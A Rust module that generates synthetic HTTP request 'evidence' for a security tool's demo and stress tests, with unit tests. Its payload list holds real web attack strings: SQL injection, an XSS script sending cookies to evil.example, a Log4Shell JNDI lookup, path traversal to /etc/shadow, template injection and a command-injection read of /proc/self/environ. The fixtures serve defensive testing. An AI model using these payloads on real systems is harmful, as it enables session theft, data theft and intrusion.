//! Synthetic but realistic evidence: captured HTTP requests with attack payloads, headers and
//! bodies, sizes from 200 B to 256 KiB, and a mix of severities. Used by `houndd demo` and by
//! `hound-stress`. Deterministic for a given seed.

use houndpool_protocol::job::Severity;

const METHODS: [&str; 5] = ["GET", "POST", "PUT", "DELETE", "PATCH"];
const PATHS: [&str; 8] = [
    "/login",
    "/api/v2/users/search",
    "/admin/export",
    "/wp-admin/admin-ajax.php",
    "/cgi-bin/status",
    "/api/orders",
    "/static/../../etc/passwd",
    "/graphql",
];
const PAYLOADS: [&str; 8] = [
    "' OR '1'='1' --",
    "<script>fetch('//evil.example/c?'+document.cookie)</script>",
    "../../../../etc/shadow",
    "${jndi:ldap://198.51.100.7/a}",
    "UNION SELECT username, password FROM users--",
    "{{7*7}}{{config.items()}}",
    "; cat /proc/self/environ |",
    "%00%2e%2e%2f%2e%2e%2fboot.ini",
];
const AGENTS: [&str; 4] = [
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36",
    "sqlmap/1.8.2#stable (https://sqlmap.org)",
    "curl/8.5.0",
    "python-requests/2.32.3",
];
const WORDS: [&str; 16] = [
    "account", "token", "session", "amount", "currency", "items", "quantity", "address", "comment",
    "filter", "order", "limit", "offset", "search", "user", "role",
];

/// A deterministic generator of evidence.
#[derive(Debug)]
pub struct EvidenceGenerator {
    rng: fastrand::Rng,
}

/// One generated piece of evidence.
#[derive(Debug, Clone)]
pub struct Evidence {
    /// The captured request bytes.
    pub bytes: Vec<u8>,
    /// Its severity.
    pub severity: Severity,
}

impl EvidenceGenerator {
    /// A generator seeded with `seed`.
    pub fn new(seed: u64) -> Self {
        EvidenceGenerator {
            rng: fastrand::Rng::with_seed(seed),
        }
    }

    /// A size drawn from the demo mix: 60 % 200 B–2 KiB, 30 % 2–32 KiB, 10 % 32–256 KiB.
    pub fn mixed_size(&mut self) -> usize {
        match self.rng.u8(0..100) {
            0..=59 => self.rng.usize(200..2048),
            60..=89 => self.rng.usize(2048..32 * 1024),
            _ => self.rng.usize(32 * 1024..=256 * 1024),
        }
    }

    /// A severity drawn from the mix: 40 % low, 35 % medium, 20 % high, 5 % critical.
    pub fn severity(&mut self) -> Severity {
        match self.rng.u8(0..100) {
            0..=39 => Severity::Low,
            40..=74 => Severity::Medium,
            75..=94 => Severity::High,
            _ => Severity::Critical,
        }
    }

    /// Evidence of the demo's size and severity mix.
    pub fn next_mixed(&mut self) -> Evidence {
        let size = self.mixed_size();
        let severity = self.severity();
        Evidence {
            bytes: self.request(size),
            severity,
        }
    }

    /// An HTTP request of exactly `size` bytes (at least the request line and headers; the body
    /// fills the rest with a JSON document carrying attack payloads and some random tokens).
    pub fn request(&mut self, size: usize) -> Vec<u8> {
        let r = &mut self.rng;
        let method = METHODS[r.usize(..METHODS.len())];
        let path = PATHS[r.usize(..PATHS.len())];
        let payload = PAYLOADS[r.usize(..PAYLOADS.len())];
        let mut out = Vec::with_capacity(size + 64);
        out.extend_from_slice(
            format!(
                "{method} {path}?q={} HTTP/1.1\r\nHost: shop.example.com\r\nUser-Agent: {}\r\n\
                 X-Forwarded-For: 203.0.113.{}\r\nCookie: session={:016x}; csrftoken={:016x}\r\n\
                 Accept: */*\r\nContent-Type: application/json\r\nX-Request-Id: {:032x}\r\n",
                payload.replace(' ', "%20"),
                AGENTS[r.usize(..AGENTS.len())],
                r.u8(1..255),
                r.u64(..),
                r.u64(..),
                r.u128(..),
            )
            .as_bytes(),
        );
        let header_end = b"Content-Length: 0000000\r\n\r\n".len();
        let body_len = size.saturating_sub(out.len() + header_end);
        out.extend_from_slice(format!("Content-Length: {body_len:07}\r\n\r\n").as_bytes());
        let body_start = out.len();
        out.extend_from_slice(b"{\"events\":[");
        while out.len() < body_start + body_len {
            let w = WORDS[r.usize(..WORDS.len())];
            let v = WORDS[r.usize(..WORDS.len())];
            let entry = if r.u8(0..10) == 0 {
                format!("{{\"{w}\":\"{}\"}},", payload.replace('"', "\\\""))
            } else {
                format!("{{\"{w}\":\"{v}-{:x}\",\"n\":{}}},", r.u32(..), r.u16(..))
            };
            out.extend_from_slice(entry.as_bytes());
        }
        out.truncate(body_start + body_len);
        out.truncate(size.max(1));
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sizes_are_exact_and_mix_is_in_range() {
        let mut g = EvidenceGenerator::new(7);
        for size in [200, 1000, 4096, 65_536, 256 * 1024] {
            assert_eq!(g.request(size).len(), size);
        }
        for _ in 0..1000 {
            let s = g.mixed_size();
            assert!((200..=256 * 1024).contains(&s));
        }
    }

    #[test]
    fn deterministic_per_seed() {
        let a = EvidenceGenerator::new(1).request(4096);
        let b = EvidenceGenerator::new(1).request(4096);
        assert_eq!(a, b);
        assert!(a.starts_with(b"GET ") || a.starts_with(b"POST ") || a.len() == 4096);
    }
}
